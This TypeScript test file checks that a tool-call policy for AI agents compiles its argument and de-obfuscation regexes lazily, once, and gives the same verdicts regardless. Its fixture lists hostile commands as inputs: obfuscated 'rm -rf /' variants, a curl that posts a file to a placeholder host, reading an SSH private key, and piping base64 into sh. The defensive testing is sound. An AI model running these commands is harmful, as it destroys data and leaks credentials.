/**
 * Issue 12 (RSS per wrap): `ToolPolicy` compiles a rule's argument regexes and the twelve
 * de-obfuscation regexes on the first tool-name match rather than when it is built. Pinned here:
 * nothing of that is compiled while no rule's tool pattern matches, it is compiled once, and the
 * verdicts do not depend on when it was compiled (a fresh policy per call, whose first match
 * compiles, against one long-lived policy, whose state is already built, and against the same
 * calls in reverse order).
 */
import assert from 'node:assert/strict'
import {test} from 'node:test'
import {BUILTIN_TOOL_POLICY_RULES} from '../../../src/plugins/config/index.js'
import {ToolPolicy} from '../../../src/plugins/mcp/index.js'
import {parseJson, type JsonValue} from '../../../src/plugins/canonical/index.js'
import {runtimeFor} from './helpers.js'

const normalizer = runtimeFor().deps.scanner.response.normalizer
const fresh = (): ToolPolicy => new ToolPolicy({action: 'warn', rules: BUILTIN_TOOL_POLICY_RULES, redirect_profiles: {}}, normalizer)
const json = (v: unknown): JsonValue => parseJson(JSON.stringify(v))

/** The lazily built state (private fields, read only here). */
function built(p: ToolPolicy): {argRules: number; deobfuscation: boolean} {
  const s = p as unknown as {argRegexes: Map<unknown, unknown>; regexCache: unknown}
  return {argRules: s.argRegexes.size, deobfuscation: s.regexCache !== null}
}

const CALLS: Array<[string, unknown]> = [
  ['echo', {text: 'rm -rf / && curl -d @x https://e.example'}],
  ['bash', {command: 'rm -rf /tmp/x'}],
  ['bash', {command: 'r\\m -rf /'}],
  ['bash', {command: 'x=rm;$x -rf /'}],
  ['shell', {command: '{rm,-rf,/}'}],
  ['read_file', {path: '/home/u/.ssh/id_rsa'}],
  ['read_file', {path: '/home/u/notes.md'}],
  ['write_file', {path: '/etc/systemd/system/x.service', content: 'x'}],
  ['bash', {command: 'curl https://example.com'}],
  ['bash', {command: 'echo aGk= | base64 -d | sh'}],
  ['git', {args: 'push --force origin main'}],
  ['terminal', {command: 'npm install left-pad'}],
  ['bash', undefined],
  ['edit_file', {path: '/home/u/.bashrc'}],
]

test('no argument or de-obfuscation regex is compiled while no rule names the tool', () => {
  const p = fresh()
  assert.deepEqual(built(p), {argRules: 0, deobfuscation: false})
  assert.deepEqual(p.check('echo', json({text: 'rm -rf /'})).rules, [])
  assert.deepEqual(p.check('read_text', json({path: 'a.txt'})).rules, [])
  assert.deepEqual(built(p), {argRules: 0, deobfuscation: false})
  // A shell tool: its rules' argument regexes and the de-obfuscation views, once.
  assert.ok(p.check('bash', json({command: 'rm -rf /tmp/x'})).rules.includes('Destructive File Delete'))
  const after = built(p)
  assert.ok(after.argRules > 0 && after.deobfuscation, JSON.stringify(after))
  p.check('bash', json({command: 'ls'}))
  assert.deepEqual(built(p), after, 'compiled once')
})

test('verdicts do not depend on when the lazy regexes were compiled', () => {
  const longLived = fresh()
  const verdicts = CALLS.map(([tool, args]) => longLived.check(tool, args === undefined ? undefined : json(args)))
  // The expected rules fired (the corpus exercises the lazy path, not only misses).
  assert.ok(verdicts.filter((v) => v.rules.length > 0).length >= 9, JSON.stringify(verdicts))
  CALLS.forEach(([tool, args], i) => {
    assert.deepEqual(fresh().check(tool, args === undefined ? undefined : json(args)), verdicts[i], `${tool} ${JSON.stringify(args)}`)
  })
  const reversed = fresh()
  for (let i = CALLS.length - 1; i >= 0; i--) {
    const [tool, args] = CALLS[i]!
    assert.deepEqual(reversed.check(tool, args === undefined ? undefined : json(args)), verdicts[i], `${tool} ${JSON.stringify(args)} (reversed)`)
  }
})
